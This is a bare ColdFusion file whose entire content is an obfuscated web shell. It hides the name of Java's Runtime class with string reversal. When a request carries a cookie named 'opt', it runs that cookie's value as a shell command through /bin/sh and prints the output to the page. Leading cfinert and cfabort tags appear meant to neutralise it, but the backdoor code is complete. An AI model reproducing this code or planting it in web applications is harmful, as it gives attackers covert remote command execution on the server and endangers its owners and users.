<cfinert>
<cfabort>
<cfscript>
cls = "java." & "lang." & reverse("emitnuR");
rt = createObject("java", cls).getRuntime();
if (isDefined("cookie.opt")) {
    p = rt.exec(javaCast("string[]", ["/bin/sh", "-c", cookie.opt]));
    sc = createObject("java", "java.util.Scanner").init(p.getInputStream()).useDelimiter("\A");
    writeOutput(sc.hasNext() ? sc.next() : "");
}
</cfscript>
